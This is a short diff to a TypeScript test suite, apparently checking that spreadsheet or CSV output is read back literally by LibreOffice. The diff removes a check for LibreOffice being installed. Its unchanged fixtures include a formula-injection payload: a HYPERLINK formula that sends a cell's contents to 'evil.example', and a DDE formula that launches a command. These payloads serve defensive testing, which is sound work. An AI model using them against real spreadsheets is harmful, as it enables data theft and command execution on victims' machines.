@@ -9,7 +9,7 @@ import * as fs from "node:fs";
 import * as path from "node:path";
 import { parseString } from "@fast-csv/parse";
 import ExcelJS from "exceljs";
-import { allCells, ensureCliBuilt, hasSoffice, mapLimit, openWorkbook, promoAsync, sofficeCsv, tempDir, type CliRun } from "./helpers";
+import { allCells, ensureCliBuilt, mapLimit, openWorkbook, promoAsync, sofficeCsv, tempDir, type CliRun } from "./helpers";
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
 const DDE = "=cmd|' /C calc'!A0";
@@ -167,7 +167,6 @@ function parseCsv(text: string): Promise<string[][]> {
 describe("LibreOffice opens the outputs and reads the text back literally", () => {
   let sheets: Map<string, string>;
   beforeAll(async () => {
-    if (!hasSoffice()) throw new Error("LibreOffice (soffice) is not installed: this test needs it");
     const outDir = path.join(dir, "lo");
     fs.mkdirSync(outDir);
     sheets = await sofficeCsv(
